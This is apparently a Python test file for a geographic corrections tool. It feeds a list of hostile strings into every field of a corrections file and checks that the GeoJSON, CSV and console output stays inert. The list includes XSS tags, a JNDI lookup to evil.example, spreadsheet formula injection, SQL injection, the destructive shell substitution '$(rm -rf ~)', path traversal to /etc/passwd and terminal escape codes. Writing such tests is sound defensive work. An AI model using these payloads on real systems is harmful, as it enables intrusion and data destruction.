"""Hostile strings in every field of a file of corrections: nothing runs in what is made of them, nothing is lost."""
# ruff: noqa: E501

import csv
import io
import json

import pytest
from rich.console import Console

from geo.corrections import apply_corrections, corrections_text, parse_corrections
from geo.errors import DataFileError
from geo.output import print_story, write_story
from geo.story import story_tables
from tests.geo.corrections.conftest import change, corrections, quoted

PLAIN = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title><svg onload=alert(1)>", "javascript:alert(1)", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "%s%n%x", "{0.__class__}", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "'; DROP TABLE places; --",
    "$(rm -rf ~)", "`id`", "../../etc/passwd", "file:///etc/passwd", "https://evil.example/?q=1", "__proto__", "constructor", "NULL", "NaN",
    "\u202eevil\u202c", "\u2066isolate\u2069", "\u200b", "\u2028line", "]]>", "<![CDATA[x", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "&amp;&#x3c;", "a\nb", "a\tb",
    "😀👩‍👩‍👧", "e\u0301" * 40, "م" * 400, "W" * 500, "(a+)+$", "[[[[", "\\u003cscript>", "%00", "[bold red]markup[/]", "[link=https://evil.example]x[/link]",
]  # fmt: skip
CONTROLS = ["\x00", "\x1b]0;PWN\x07", "\x9b31m", "bell\x07", "del\x7f", "\x85next"]


def with_text(text):
    return corrections(
        change("mention", "edit", quoted("Goma"), set={"place": {"point": [1, 2]}, "name": text}, who=text[:200], note=text),
        change("event", "edit", quoted("attacked"), set={"title": text, "according_to": text}, who=text[:200], when=text[:40]),
    )  # fmt: skip


@pytest.mark.parametrize("text", PLAIN)
def test_texts_stay_texts_in_every_output(as_read, gazetteer, tmp_path, text):
    given = parse_corrections(corrections_text(with_text(text)))
    story = story_tables(apply_corrections(as_read, given, gazetteer=gazetteer).document, gazetteer)
    (path,) = write_story(story, tmp_path / "a.geojson")
    features = [one["properties"] for one in json.loads(path.read_text(encoding="utf-8"))["features"]]
    assert text in [one.get("title") for one in features]
    assert text in [one.get("name") for one in features]
    for path in write_story(story, tmp_path / "a.csv"):
        rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    shown = io.StringIO()
    print_story(story, console=Console(file=shown, width=200))
    assert not any(ord(sign) < 32 and sign != "\n" for sign in shown.getvalue())


@pytest.mark.parametrize("text", CONTROLS)
def test_control_characters_are_refused(text):
    with pytest.raises(DataFileError, match="change 1"):
        parse_corrections(corrections_text(with_text(text)))


def test_an_id_that_is_a_path_or_a_query_is_no_place(as_read, gazetteer):
    for ident in (
        "../../etc/passwd",
        "geonames:1 OR 1=1",
        "geonames:1'; DROP TABLE places; --",
        "user:1",
        "text:1,2",
        ":",
        "geonames:²",
    ):
        given = corrections(change("mention", "edit", quoted("Goma"), set={"place": {"id": ident}}))
        (left,) = apply_corrections(as_read, given, gazetteer=gazetteer).left
        assert left.why == f"the gazetteer has no place {ident!r}"


def test_names_of_objects_are_no_fields(as_read, gazetteer):
    for key in ("__proto__", "constructor", "__class__"):
        given = corrections_text(
            corrections(change("event", "edit", quoted("attacked"), set={key: {"status": "denied"}}))
        )
        with pytest.raises(DataFileError, match="Additional properties"):
            parse_corrections(given)
